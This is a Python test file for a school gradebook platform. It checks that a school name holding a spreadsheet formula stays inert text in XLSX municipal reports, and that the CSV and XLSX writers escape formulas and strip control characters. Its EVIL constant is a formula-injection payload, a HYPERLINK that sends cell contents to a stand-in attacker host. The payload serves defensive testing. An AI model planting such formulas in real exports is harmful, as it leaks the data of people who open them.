"""A formula typed as a school's short name stays inert text in every report the platform writes."""

from __future__ import annotations

import io

import openpyxl
import pytest

from core.api import User
from tests.gradebook.factories import build_world, user_of

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Подробнее")'


@pytest.fixture
def evil_world(app):
    world = build_world(app)
    with app.app_context():
        school = world.school
        type(school).update(short_name=EVIL).where(type(school).id == school.id).execute()
        world.things["operator"] = User.create(display_name="Оператор", role="operator")
    return world


def cells_of(data: bytes) -> list[tuple[object, str]]:
    """(value, data type) of every non-empty cell, formulas included (not their cached results)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(cell.value, cell.data_type) for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if cell.value not in (None, "")]


@pytest.mark.parametrize("url", ["/registries/readiness?format=xlsx",
                                 "/timeliness/municipality?format=xlsx",
                                 "/attainment/municipality?format=xlsx"])
def test_a_formula_in_a_school_name_is_inert_in_the_municipal_reports(app, evil_world, login, url):
    client = app.test_client()
    login(client, user_of(evil_world.municipal))
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    cells = cells_of(response.data)
    assert ("'" + EVIL, "s") in cells
    assert not [v for v, kind in cells if kind == "f" or (isinstance(v, str) and v.startswith("="))]


def test_csv_and_xlsx_writers_of_the_core_keep_text_inert_and_drop_control_characters(app):
    from core.api import Workbook, csv_bytes

    text = csv_bytes(["Имя", "Число"], [["=1+1", 5], ["Ива\x01нов", None], ["@SUM(A1)", "-2"]]).decode("utf-8-sig")
    assert text.splitlines() == ["Имя;Число", "'=1+1;5", "Иванов;", "'@SUM(A1);'-2"]
    book = Workbook()
    sheet = book.sheet("Отчёт: [итог]")
    sheet.append(["=1+1", "Ива\x0bнов", 7])
    cells = cells_of(book.to_bytes())
    assert cells == [("'=1+1", "s"), ("Иванов", "s"), (7, "n")]
    assert openpyxl.load_workbook(io.BytesIO(book.to_bytes())).sheetnames == ["Отчёт   итог"]
